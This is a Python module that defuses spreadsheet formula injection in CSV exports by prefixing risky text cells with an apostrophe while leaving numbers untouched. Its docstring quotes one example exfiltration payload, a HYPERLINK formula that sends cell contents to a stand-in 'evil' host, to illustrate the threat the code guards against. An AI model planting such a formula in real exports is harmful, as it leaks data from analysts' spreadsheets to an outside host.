"""CSV for spreadsheets: a text cell that a spreadsheet would run as a formula is defused.

Campaign names, labels and captions come from visitors' URLs and social posts; a cell such
as `=HYPERLINK("http://evil/?"&A1,"click")` becomes a live formula when an analyst opens the
export in Excel, LibreOffice or Sheets. Every CSV Mercato writes goes through `csv_text`,
which prefixes such text cells with an apostrophe (the OWASP advice; spreadsheets show it
as a text marker). Numbers are never touched: a negative amount stays a number.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
# A number written as text ("-12.50" for exact money, "+3.1%" for a delta) is read as a
# number by spreadsheets, not as a formula, so it keeps its sign and stays a number.
_NUMBER = re.compile(r"[+-]?(\d{1,3}(,\d{3})+|\d*)(\.\d+)?([eE][+-]?\d+)?( ?%| pt)?")


def spreadsheet_cell(value: Any) -> Any:
    """The value to write: numbers and empty cells as they are, risky text defused."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _is_number(text):
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    return any(char.isdigit() for char in text) and _NUMBER.fullmatch(text) is not None


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV document (header first, `\\n` line ends) with every cell defused."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_cell(name) for name in header])
    for row in rows:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return out.getvalue()
